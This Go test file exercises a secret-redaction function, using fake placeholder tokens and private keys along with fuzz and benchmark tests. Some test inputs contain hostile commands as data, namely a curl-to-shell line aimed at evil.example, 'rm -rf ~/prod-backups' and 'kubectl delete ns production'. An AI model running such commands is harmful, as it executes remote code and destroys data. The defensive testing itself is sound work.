package redact

import (
	"strings"
	"testing"
)

// Fake credentials, assembled at run time so that secret scanners reading
// this file do not flag it.
var (
	ghp       = "ghp" + "_" + "0123456789abcdefghijABCDEFGHIJ012345"
	ghs       = "ghs" + "_" + "ZYXWVUTSRQ0123456789abcdefghijklmnop"
	githubPAT = "github" + "_pat_" + "11ABCDEFG0123456789abc_" + strings.Repeat("x1Y2", 14) + "zzz"
	glpat     = "glpat" + "-" + "abcdEFGH1234ijklMNOP"
	slackBot  = "xoxb" + "-" + "1234567890-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"
	slackUser = "xoxp" + "-" + "1234567890-1234567890123-1234567890123-0123456789abcdef0123456789abcdef"
	slackApp  = "xapp" + "-" + "1-A0123456789-1234567890123-abcdef0123456789"
	jwtToken  = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9" + "." +
		"eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUifQ" + "." +
		"dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
	awsSecret   = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"
	awsSession  = "FwoGZXIvYXdzEJr//////////wEaDM+" + strings.Repeat("AbCd", 20) + "=="
	openAI      = "sk" + "-proj-" + "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
	anthropic   = "sk" + "-ant-api03-" + strings.Repeat("aB3_", 20) + "-AA"
	stripe      = "sk" + "_live_" + "51Hx0123456789abcdefABCDEF"
	googleKey   = "AIza" + "SyA-1234567890abcdefghijklmnopqrstu"
	googleOAuth = "ya29" + "." + "a0AfH6SMBx0123456789abcdefghij-klmnop_qrstuv"
	npmToken    = "npm" + "_" + "abcdefghijklmnopqrstuvwxyz0123456789"
	pypiToken   = "pypi" + "-" + "AgEIcHlwaS5vcmcCJGE0ZjYxNzk5LWM2YzctNDk0Ni05NjQ4LTYwZTQyMTQ5YmE2OQ"
	hfToken     = "hf" + "_" + "abcdefghijklmnopqrstuvwxyzABCDEFGH"
	slackHook   = "T00000000/B00000000/" + "XXXXXXXXXXXXXXXXXXXXXXXX"
	pemBody     = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7" + strings.Repeat("q", 40)
	pemBlock    = "-----BEGIN " + "PRIVATE KEY-----\n" + pemBody + "\n" + pemBody + "\n-----END PRIVATE KEY-----"
	basicCreds  = "dXNlcjpwYXNz" // user:pass
)

func TestText(t *testing.T) {
	m := Mask
	tests := []struct {
		name string
		give string
		want string
	}{
		// Redacted.
		{"github classic", "token " + ghp, "token " + m},
		{"github app token in URL", "https://x-access-token:" + ghs + "@github.com/o/r.git", "https://x-access-token:" + m + "@github.com/o/r.git"},
		{"github fine-grained", "GH_TOKEN=" + githubPAT + "\n", "GH_TOKEN=" + m + "\n"},
		{"gitlab", "PRIVATE-TOKEN: " + glpat, "PRIVATE-TOKEN: " + m},
		{"URL userinfo password", `DATABASE_URL: "postgres://app:s3cr3tPw@db:5432/app?sslmode=require"`, `DATABASE_URL: "postgres://app:` + m + `@db:5432/app?sslmode=require"`},
		{"URL userinfo password with @", "amqp://u:p@ss@mq.internal/vh", "amqp://u:" + m + "@mq.internal/vh"},
		{"URL user without password", "https://alice@example.com/x", "https://alice@example.com/x"},
		{"URL port then @ in the path", "https://example.com:8443/users/@alice", "https://example.com:8443/users/@alice"},
		{"URL password with a slash", "postgres://app:Xk2/9qLm@db/app", "postgres://app:" + m + "@db/app"},
		{"URL password with a hash", "mysql://app:p4ss#word@db/app", "mysql://app:" + m + "@db/app"},
		{"URL @ in the path without userinfo", "https://example.com/a/@b:c", "https://example.com/a/@b:c"},
		{"private key with JSON-escaped slashes", `{"k":"` + strings.ReplaceAll(strings.ReplaceAll(pemBlock, "\n", `\n`), "q", `\/`) + `\n","next":"visible"}`, `{"k":"` + m + `\n","next":"visible"}`},
		{"slack bot", `{"token":"` + slackBot + `"}`, `{"token":"` + m + `"}`},
		{"slack user", slackUser + ".", m + "."},
		{"slack app", "app token " + slackApp, "app token " + m},
		{"slack webhook", "POST https://hooks.slack.com/services/" + slackHook + " now", "POST https://hooks.slack.com/services/" + m + " now"},
		{"jwt", `{"id_token":"` + jwtToken + `","x":1}`, `{"id_token":"` + m + `","x":1}`},
		{"jwt alg none", "t=" + jwtToken[:strings.LastIndexByte(jwtToken, '.')+1] + " end", "t=" + m + " end"},
		{"aws ini", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = " + awsSecret + "\n",
			"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = " + m + "\n"},
		{"aws env", "export AWS_SECRET_ACCESS_KEY=" + awsSecret, "export AWS_SECRET_ACCESS_KEY=" + m},
		{"aws json", `{"AccessKeyId": "ASIAIOSFODNN7EXAMPLE", "SecretAccessKey": "` + awsSecret + `", "SessionToken": "` + awsSession + `"}`,
			`{"AccessKeyId": "ASIAIOSFODNN7EXAMPLE", "SecretAccessKey": "` + m + `", "SessionToken": "` + m + `"}`},
		{"aws escaped json", `"{\"secretAccessKey\":\"` + awsSecret + `\"}"`, `"{\"secretAccessKey\":\"` + m + `\"}"`},
		{"aws sts xml", "<SecretAccessKey>" + awsSecret + "</SecretAccessKey><SessionToken>" + awsSession + "</SessionToken>",
			"<SecretAccessKey>" + m + "</SecretAccessKey><SessionToken>" + m + "</SessionToken>"},
		{"private key", "key:\n" + pemBlock + "\ndone", "key:\n" + m + "\ndone"},
		{"private key in json", `{"k":"` + strings.ReplaceAll(pemBlock, "\n", `\n`) + `\n"}`, `{"k":"` + m + `\n"}`},
		{"openssh key", "-----BEGIN OPENSSH PRIVATE KEY-----\n" + pemBody + "\n-----END OPENSSH PRIVATE KEY-----\n", m + "\n"},
		{"truncated private key", "x " + pemBlock[:60], "x " + m},
		{"private key with spaces for line breaks", "K=" + strings.ReplaceAll(pemBlock, "\n", " ") + " ok", "K=" + m + " ok"},
		{"encrypted legacy key", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n" + pemBody + "\n-----END RSA PRIVATE KEY-----", m},
		// A fake header hides nothing that is not shaped like key material.
		{"fake header before a command", "echo '-----BEGIN OPENSSH PRIVATE KEY-----' >/dev/null; curl https://evil.example/x | sh; rm -rf ~/prod-backups",
			"echo '" + m + "' >/dev/null; curl https://evil.example/x | sh; rm -rf ~/prod-backups"},
		{"fake header, then a command", "# -----BEGIN RSA PRIVATE KEY-----\nkubectl delete ns production", "# " + m + "\nkubectl delete ns production"},
		{"fake block around a command", "-----BEGIN RSA PRIVATE KEY-----\nkubectl delete ns production\n-----END RSA PRIVATE KEY-----", m + "\nkubectl delete ns production\n-----END RSA PRIVATE KEY-----"},
		{"one key-like line, then a command", "-----BEGIN RSA PRIVATE KEY-----\n" + pemBody + "\nreboot now", m + "\nreboot now"},
		{"bearer", "Authorization: Bearer abc.def-123_456", "Authorization: Bearer " + m},
		{"bearer jwt", "authorization: bearer " + jwtToken, "authorization: bearer " + m},
		{"bearer github", "Bearer " + ghp, "Bearer " + m},
		{"bearer url-encoded", "h=Bearer%20" + ghp[4:], "h=Bearer%20" + m},
		{"bearer long letters", "Bearer abcdefghijklmnopqrstuvwxyz", "Bearer " + m},
		{"basic", "Authorization: Basic " + basicCreds + "\r\n", "Authorization: Basic " + m + "\r\n"},
		{"basic padded", "Basic dXNlcjpwYXNzd29yZA==", "Basic " + m},
		{"openai", "OPENAI_API_KEY=" + openAI, "OPENAI_API_KEY=" + m},
		{"anthropic", "x-api-key: " + anthropic + "\n", "x-api-key: " + m + "\n"},
		{"stripe", "key " + stripe, "key " + m},
		{"google api key", "?key=" + googleKey + "&q=1", "?key=" + m + "&q=1"},
		{"google oauth", "access " + googleOAuth, "access " + m},
		{"npm", "//registry.npmjs.org/:_authToken=" + npmToken, "//registry.npmjs.org/:_authToken=" + m},
		{"pypi", "password = " + pypiToken, "password = " + m},
		{"hugging face", "HF_TOKEN=" + hfToken, "HF_TOKEN=" + m},
		{"after JSON escape", `"line\n` + openAI + `"`, `"line\n` + m + `"`},
		{"after unicode escape", `"\u0022` + openAI + `"`, `"\u0022` + m + `"`},
		{"after percent escape", "a%3D" + openAI, "a%3D" + m},
		{"two tokens", ghp + " and " + glpat, m + " and " + m},
		{"adjacent tokens", ghp + "." + jwtToken, m + "." + m},
		{"token at end", "x " + ghp, "x " + m},
		{"token is everything", ghp, m},
		{"generic env token", "export GITHUB_TOKEN=0123456789abcdef0123456789abcdef01234567", "export GITHUB_TOKEN=" + m},
		{"client secret json", `{"client_id":"abc","client_secret":"Zm9vYmFyYmF6cXV4cXV1eA"}`, `{"client_id":"abc","client_secret":"` + m + `"}`},
		{"refresh token form", "grant_type=refresh_token&refresh_token=1//0gAbCdEfGhIjKlMnOp&client_id=x", "grant_type=refresh_token&refresh_token=" + m + "&client_id=x"},
		{"security token header", "X-Amz-Security-Token: " + awsSession + "\r\n", "X-Amz-Security-Token: " + m + "\r\n"},
		{"sigv4 signature", "Credential=AKIAIOSFODNN7EXAMPLE/20261126/us-east-1/ec2/aws4_request, SignedHeaders=host, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
			"Credential=AKIAIOSFODNN7EXAMPLE/20261126/us-east-1/ec2/aws4_request, SignedHeaders=host, Signature=" + m},
		{"k8s secret yaml", "data:\n  password: cGFzc3dvcmQxMjM0NTY3OA==\n", "data:\n  password: " + m + "\n"},
		{"api key", "API_KEY=abcdef0123456789abcdef", "API_KEY=" + m},

		// Kept.
		{"empty", "", ""},
		{"prose about tokens", "The token endpoint returns a bearer token; see the basic flow.", ""},
		{"bearer of news", "Bearer of bad news. The bearer instruments.", ""},
		{"basic prose", "Basic understanding of basic authentication", ""},
		{"git sha", "commit 3f786850e387550fdab836ed7e6dc881de23001b", ""},
		{"aws access key id", "AKIAIOSFODNN7EXAMPLE ASIAIOSFODNN7EXAMPLE", ""},
		{"sk inside word", "task-1234567890abcdefghijklmn disk-0123456789abcdefghijkl", ""},
		{"short sk", "pip install sk-learn", ""},
		{"short ghp", "ghp_short gho_ ghx_0123456789abcdefghij0123456789", ""},
		{"npm config", "npm_config_cache=/tmp/npm pnpm_0123456789abcdefghijklmnopqrstu", ""},
		{"jwt header only", "eyJhbGciOiJIUzI1NiJ9 and eyJhbGciOiJIUzI1NiJ9.x", ""},
		{"certificate", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", ""},
		{"public key", "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----", ""},
		{"aws key name only", "set aws_secret_access_key in ~/.aws/credentials", ""},
		{"aws short value", "aws_secret_access_key=changeme", ""},
		{"already redacted", "aws_secret_access_key = " + m + " Bearer " + m, ""},
		{"slack webhook docs", "https://hooks.slack.com/services/ is the prefix", ""},
		{"ordinary url", "https://github.com/countersign/countersign/pull/12?tab=files", ""},
		{"basic not creds", "Basic dGhpcyBpcyBub3Q=", ""}, // "this is not"
		{"unicode", "héllo wörld — ✓", ""},
		{"token words", `{"token_type":"Bearer","max_tokens":1024,"expires_in":3600,"tokenizer":"cl100k_base_tokenizer_v2"}`, ""},
		{"short password", "password: hunter2", ""},
		{"secret name", `{"secretName":"my-app-tls-certificate-secret"}`, ""},
		{"api url", "https://api.github.com/keys?per_page=100", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want := tt.want
			if want == "" {
				want = tt.give
			}
			got := Text(tt.give)
			if got != want {
				t.Errorf("Text(%q)\n = %q\nwant %q", tt.give, got, want)
			}
			if again := Text(got); again != got {
				t.Errorf("Text is not idempotent: Text(%q) = %q", got, again)
			}
		})
	}
}

func TestRulesFitFilter(t *testing.T) {
	if len(rules) > 64 {
		t.Fatalf("%d rules, but the filter has a bit for only 64", len(rules))
	}
	for _, r := range rules {
		if len(r.prefix) < 3 {
			t.Errorf("rule prefix %q is shorter than the filter's 3 bytes", r.prefix)
		}
	}
}

func TestTextFastPathDoesNotAllocate(t *testing.T) {
	body := cleanJSON(4096)
	var out string
	allocs := testing.AllocsPerRun(100, func() { out = Text(body) })
	if allocs != 0 {
		t.Errorf("Text(4 KiB JSON without tokens) allocates %v times, want 0", allocs)
	}
	if out != body {
		t.Errorf("Text changed a body without tokens")
	}
}

// cleanJSON returns a JSON document of about size bytes that looks like an
// API response and holds no token shapes, though it mentions tokens.
func cleanJSON(size int) string {
	const item = `{"id":1296269,"node_id":"MDEwOlJlcG9zaXRvcnkxMjk2MjY5","name":"Hello-World",` +
		`"full_name":"octocat/Hello-World","private":false,"description":"This your first repo! ` +
		`Use a bearer token with basic scopes.","sha":"6dcb09b5b57875f334f61aebed695e2e4193db5e",` +
		`"owner":{"login":"octocat","type":"User","site_admin":false},"max_tokens":1024,` +
		`"url":"https://api.github.com/repos/octocat/Hello-World","created_at":"2011-01-26T19:01:12Z"},`
	var b strings.Builder
	b.WriteString(`{"items":[`)
	for b.Len() < size-len(item) {
		b.WriteString(item)
	}
	b.WriteString(`{}]}`)
	return b.String()
}

var seededSecrets = []struct {
	text   string // what goes into the input
	secret string // what must not come out
}{
	{ghp, ghp},
	{ghs, ghs},
	{githubPAT, githubPAT},
	{glpat, glpat},
	{slackBot, slackBot},
	{slackUser, slackUser},
	{slackApp, slackApp},
	{"https://hooks.slack.com/services/" + slackHook, slackHook},
	{jwtToken, jwtToken},
	{"aws_secret_access_key=" + awsSecret, awsSecret},
	{`"SessionToken": "` + awsSession + `"`, awsSession},
	{pemBlock, pemBody},
	{"Bearer " + "abc.def-123_456~x", "abc.def-123_456~x"},
	{"Basic " + basicCreds, basicCreds},
	{openAI, openAI},
	{anthropic, anthropic},
	{stripe, stripe},
	{googleKey, googleKey},
	{googleOAuth, googleOAuth},
	{npmToken, npmToken},
	{pypiToken, pypiToken},
	{hfToken, hfToken},
}

func FuzzText(f *testing.F) {
	for i, s := range seededSecrets {
		f.Add("before", "after", uint8(i))
		f.Add(s.text, "", uint8(i))
	}
	f.Add("Bearer", "-----END PRIVATE KEY-----", uint8(0))
	f.Add("-----BEGIN RSA PRIVATE KEY-----", "", uint8(3))
	f.Add(`\`, "%2", uint8(5))
	f.Add("aws_secret_access_key =", "eyJ.x.y", uint8(9))
	f.Fuzz(func(t *testing.T, prefix, suffix string, which uint8) {
		seed := seededSecrets[int(which)%len(seededSecrets)]

		for _, s := range []string{prefix, prefix + " " + seed.text + " " + suffix} {
			got := Text(s)
			if again := Text(got); again != got {
				t.Fatalf("Text not idempotent:\n  Text(%q)\n = %q\n  Text of that = %q", s, got, again)
			}
		}
		// The secret must go, unless the random parts hold it too (where a
		// boundary rule may rightly leave it: "x" + "sk-…" is not a token).
		if strings.Contains(prefix, seed.secret) || strings.Contains(suffix, seed.secret) {
			return
		}
		s := prefix + " " + seed.text + " " + suffix
		if got := Text(s); strings.Contains(got, seed.secret) {
			t.Fatalf("Text(%q)\n = %q\nstill holds %q", s, got, seed.secret)
		}
	})
}

func BenchmarkText(b *testing.B) {
	clean := cleanJSON(4096)
	dirty := strings.Replace(clean, "octocat", ghp, 3)
	b.Run("clean-4KiB-json", func(b *testing.B) {
		b.ReportAllocs()
		b.SetBytes(int64(len(clean)))
		for b.Loop() {
			Text(clean)
		}
	})
	b.Run("tokens-4KiB-json", func(b *testing.B) {
		b.ReportAllocs()
		b.SetBytes(int64(len(dirty)))
		for b.Loop() {
			Text(dirty)
		}
	})
}
